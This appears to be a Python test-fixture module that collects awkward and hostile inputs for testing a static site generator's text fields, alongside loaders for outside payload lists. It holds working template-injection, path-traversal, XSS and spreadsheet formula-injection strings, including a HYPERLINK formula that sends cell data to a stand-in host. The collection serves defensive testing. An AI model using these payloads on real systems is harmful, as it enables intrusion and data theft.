"""The texts that people, scanners and attackers put where a name or a sentence is expected.

Our own list is always there; lists that others collected are read where the project lies beside
them and are never part of it.
"""

import json
import re
from pathlib import Path

LISTS = Path(__file__).resolve().parents[3] / "shared" / "data"
HAS_LISTS = LISTS.is_dir()

LONG = "W" * 10_000
RIGHT_TO_LEFT = ("עברית (1) \u202e reversed", "\u200fالعربية\u200f 42%")

OWN = (
    "{{ 7*7 }}",
    "{% include 'about.html' %}",
    "{{ config }}",
    "{# gone #}",
    "${7*7}",
    "{filename}/x.md",
    "{static}/../../etc/hosts",
    "{attach}x.pdf",
    "|filename|x.md",
    "Save_as: ../out.html\nTemplate: about\nStatus: hidden",
    "---\ntitle: other\n---",
    "<script>alert(1)</script>",
    "</title></head><body><h1>Other</h1>",
    "</bdi></h1></main><main id='main'>",
    "<!-- comment",
    "--> ]]> <![CDATA[",
    "<img src=//host.invalid/x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "javascript:alert(1)",
    "&lt;b&gt; &amp;amp; &#60; &notanentity; &copy",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "＝1+1",
    '=HYPERLINK("http://host.invalid/?x="&A1,"x")',
    "one\rtwo\r\nthree\nfour",
    "  two  blanks  ",
    *RIGHT_TO_LEFT,
    LONG,
    "zero\u200bwidth\ufeffjoined",
    "\u2028line\u2029paragraph\u0085next",
    "\x01\x08\x0b\x0c\x1b[31m\x7f\x80\x9f",
    "\ufffe\uffff\U0001fffe",
    "Z\u0338\u0321\u0322\u034ea\u035dl\u0360g\u0337o\u0334",
    "👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "yearly every-2-years",
    "NO",
    "1.10",
    "12:30",
    "null",
    "~",
)


def naughty() -> tuple[str, ...]:
    """Return the list of naughty strings that others keep."""
    path = LISTS / "naughty-strings" / "blns.json"
    return tuple(json.loads(path.read_text("utf-8"))) if HAS_LISTS else ()


def formulas() -> tuple[str, ...]:
    """Return texts that spreadsheets would run."""
    if not HAS_LISTS:
        return ()
    path = LISTS / "payloads" / "payloadbox-csv" / "csv-payload.txt"
    return tuple(path.read_text("utf-8").splitlines())


def pictures() -> tuple[str, ...]:
    """Return SVG that loads, runs or includes something."""
    if not HAS_LISTS:
        return ()
    text = (LISTS / "payloads" / "svg-cheatsheet" / "README.md").read_text("utf-8")
    return tuple(re.findall(r"```[a-z]*\n(.*?)\n```", text, re.DOTALL))


def all_texts() -> tuple[str, ...]:
    return tuple(dict.fromkeys((*OWN, *naughty(), *formulas(), *pictures())))


def is_storable(text: str) -> bool:
    """Tell whether a text field takes it: not nothing, no U+0000, no half of a pair."""
    return bool(text) and not any(c == "\0" or "\ud800" <= c <= "\udfff" for c in text)
